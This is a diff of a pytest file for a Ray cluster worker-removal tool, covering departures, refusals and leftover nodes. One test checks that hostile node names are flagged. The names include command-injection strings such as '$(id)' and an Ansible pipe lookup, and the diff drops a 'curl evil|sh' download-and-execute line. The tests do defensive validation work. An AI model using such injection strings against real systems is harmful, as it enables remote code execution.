@@ -33,11 +33,8 @@ def planned(machines: dict[str, Machine]) -> dict[str, PlannedMachine]:
 
 
 def ray_node(name: str, node_id: str = "1", state: str = "ALIVE", start: int = 0) -> dict[str, Any]:
-    resources = {"worker_node": 100.0}
-    return {
-        "node_name": name, "node_id": node_id, "state": state, "start_time_ms": start, "node_ip": "10.0.0.9",
-        "resources_total": resources,
-    }  # fmt: skip
+    node = {"node_name": name, "node_id": node_id, "state": state, "start_time_ms": start, "node_ip": "10.0.0.9"}
+    return {**node, "resources_total": {"worker_node": 100.0}}
 
 
 def leave(node: str, *nodes: dict[str, Any], **machines: Any) -> Departure:
@@ -57,40 +54,32 @@ def test_worker_of_the_inventory() -> None:
     for processes, runs in ((PROCESSES, True), (PROCESSES | stopped, False)):
         found = departure("worker-0", [ray_node("worker-0", "x")], planned(processes), INVENTORY, "ctl")
         assert found == Departure("worker-0", "worker-0", "x", runs=runs, last=not runs, in_inventory=True)
+    # It left the inventory.
+    found = leave("worker-9", ray_node("worker-9"))
+    assert found == Departure("worker-9", "gpu-1", "1", runs=True, last=False, in_inventory=False)
     # Of this one, the host has nothing.
     assert departure("worker-1", [], planned(PROCESSES), INVENTORY, "ctl").machine == ""
 
 
-def test_worker_that_left_the_inventory() -> None:
-    found = leave("worker-9", ray_node("worker-9"))
-    assert found == Departure("worker-9", "gpu-1", "1", runs=True, last=False, in_inventory=False)
-    assert leave("worker-8", ray_node("worker-8")).machine == ""
-
-
-def refusals(leaving: Departure, **silent: str) -> list[tuple[str, str]]:
+def refusals(leaving: Departure, **silent: str) -> list[str]:
     found = departure_findings(leaving, ["ray-head"], [*INVENTORY, "worker-8"], silent, "gpu_0")
-    assert all(finding.severity == ERROR for finding in found)
-    return [(finding.problem, finding.remedy) for finding in found]
+    assert all(finding.severity == ERROR and finding.remedy for finding in found)
+    return [finding.problem for finding in found]
 
 
 def test_what_cannot_be_taken_out() -> None:
-    assert refusals(leave("worker-0", ray_node("worker-0"))) == []
-    assert refusals(leave("worker-1")) == []
-    assert refusals(leave(""))[0][0] == "is not given"
-    assert refusals(leave("ray-head", ray_node("ray-head")))[0][0].startswith("is the head")
-    assert refusals(leave("worker-7"))[0][1] == 'did you mean "worker-8"?'
+    assert refusals(leave("worker-0", ray_node("worker-0"))) == refusals(leave("worker-1")) == []
+    for leaving in (leave(""), leave("ray-head", ray_node("ray-head")), leave("worker-7")):
+        assert len(refusals(leaving)) == 1
+    # On no machine.
     assert len(refusals(leave("worker-8", ray_node("worker-8")))) == 1
-
-
-def test_worker_that_is_out_already() -> None:
     out = leave("worker-0", **{"gpu-0": HEALTHY})
     assert out.gone and out.to_json()["gone"]
     (found,) = departure_findings(out, ["ray-head"], INVENTORY, {"gpu_1": "off"}, "gpu_0")
     assert found.severity == WARNING
-    ((what, _todo),) = refusals(out, gpu_0="does not answer: off")
-    assert "gpu_0 does not answer: off" in what
-    assert not leave("worker-0").gone
-    assert not leave("worker-8", ray_node("worker-8")).gone
+    (problem,) = refusals(out, gpu_0="does not answer: off")
+    assert "gpu_0 does not answer: off" in problem
+    assert not leave("worker-0").gone and not leave("worker-8", ray_node("worker-8")).gone
 
 
 def test_nodes_that_a_removed_cluster_leaves_behind() -> None:
@@ -106,25 +95,22 @@ def test_nodes_that_a_removed_cluster_leaves_behind() -> None:
     assert (found.where, found.remedy) == ("worker-8", "on its host: pkill -f 'node .*/mvp/nodes/worker-8$'")
 
 
-@pytest.mark.parametrize("name", ["x;curl evil|sh", "{{lookup('pipe','id')}}", "a b", "-x", "a\nb", "$(id)", ""])
+@pytest.mark.parametrize("name", ["{{lookup('pipe','id')}}", "-x", "a\nb", "$(id)", ""])
 def test_no_command_has_a_name_that_a_shell_or_ansible_would_evaluate(name: str) -> None:
     for machines in (MACHINES, PROCESSES):
         (found,) = left_behind([ray_node(name)], planned(machines).values(), "mvp", INVENTORY)
         assert found.remedy == ODD_NAME
         assert "\n" not in found.where
     assert outside_notes(["worker-0"], INVENTORY) == []
-    assert outside_notes(["x", "y"], INVENTORY)[0].startswith("x, y are")
     assert outside_notes(["x", "y"], INVENTORY)[0].endswith("-e node=x")
     (note,) = outside_notes([name], INVENTORY)
-    assert note.endswith(f"counted as room: {ODD_NAME}")
-    assert "\n" not in note
+    assert note.endswith(ODD_NAME) and "\n" not in note
 
 
 def test_containers_of_another_cluster_stay() -> None:
     machine = replace(HEALTHY, containers={"worker-0": container(), "worker-9": container()})
     (found,) = left_behind([], planned({"gpu-0": replace(machine, cluster="mpv")}).values(), "mpv", INVENTORY)
-    assert (found.where, found.severity) == ("worker-0", WARNING)
-    assert found.remedy == "if this is its inventory, set cluster_name: mvp"
+    assert (found.where, found.severity, found.remedy[-3:]) == ("worker-0", WARNING, "mvp")
     bare = replace(machine, containers={"worker-0": replace(container(), labels={})})
     (found,) = left_behind([], planned({"gpu-0": bare}).values(), "mvp", INVENTORY)
     assert (found.where, found.remedy) == ("worker-0", "")
